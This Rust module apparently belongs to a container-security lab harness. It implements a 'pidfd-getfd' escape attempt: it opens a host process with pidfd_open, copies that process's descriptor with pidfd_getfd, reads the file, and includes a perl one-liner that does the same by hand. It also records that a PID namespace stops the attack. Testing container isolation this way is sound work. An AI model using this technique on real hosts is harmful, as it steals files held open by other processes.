//! pidfd-getfd: take an open file away from a process of the host.

use super::{Attack, Attempt, Measured};
use crate::victim::DESCRIPTOR;
use crate::{Host, Inside, Seen};
use nix::errno::Errno;
use nix::libc;
use nix::sys::uio::pread;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd, RawFd};

/// The attempt.
pub const ATTEMPT: Attempt = Attempt {
    id: "pidfd-getfd",
    stake: "Every file, socket and device that a process of the host has open, whatever the path's \
            permissions are now.",
    story: "The attacker asks for a descriptor of a process of the host (pidfd_open), copies one of \
            that process's descriptors into its own table (pidfd_getfd), and reads the file behind \
            it. That needs no path, so no file tree of the container's own helps. It needs a number \
            for the process, and in a PID namespace of its own the container has none.",
    by_hand: &[
        "[ -e /dev/null ] || touch /dev/null",
        r#"perl -e 'print syscall(438, syscall(434, 1234, 0), 0, 0), "\n"'    # a copy of 1234's descriptor 0; -1: refused"#,
    ],
    stopped_by: &["lab1-namespaces/pid-namespace"],
    after: &[],
    man: &["pidfd_open(2)", "pidfd_getfd(2)", "pid_namespaces(7)"],
    letters: Measured { root: "E EBBBBBB", user: "E EBBBBBB", rootless: "E EBBBBBB" },
    needs: &[],
    decisive: &[libc::SYS_pidfd_open, libc::SYS_pidfd_getfd, libc::SYS_pread64],
    attack: Attack::Inside(inside),
    witness,
};

fn inside(me: &mut Inside) -> Result<(), Errno> {
    let victim = me.victim()?.as_raw();
    me.decisive(&format!("pidfd_open({victim}), pidfd_getfd({DESCRIPTOR}), pread"));
    // SAFETY: both calls take integers and return a descriptor, which we own.
    let file = unsafe {
        let process = owned(libc::syscall(libc::SYS_pidfd_open, victim, 0))?;
        owned(libc::syscall(libc::SYS_pidfd_getfd, process.as_raw_fd(), DESCRIPTOR, 0))?
    };
    let mut bytes = [0; 64];
    let length = pread(&file, &mut bytes, 0)?;
    me.bring_out(&bytes[..length]);
    Ok(())
}

/// # Safety
/// What a system call returned that gives a new descriptor.
unsafe fn owned(answer: libc::c_long) -> Result<OwnedFd, Errno> {
    // SAFETY: see above.
    Errno::result(answer).map(|fd| unsafe { OwnedFd::from_raw_fd(fd as RawFd) })
}

fn witness(host: &Host) -> Seen {
    if host.heard_secret("victim-file") {
        return Seen::Effect("the attacker has read a file that a process of the host holds open".into());
    }
    Seen::Nothing
}
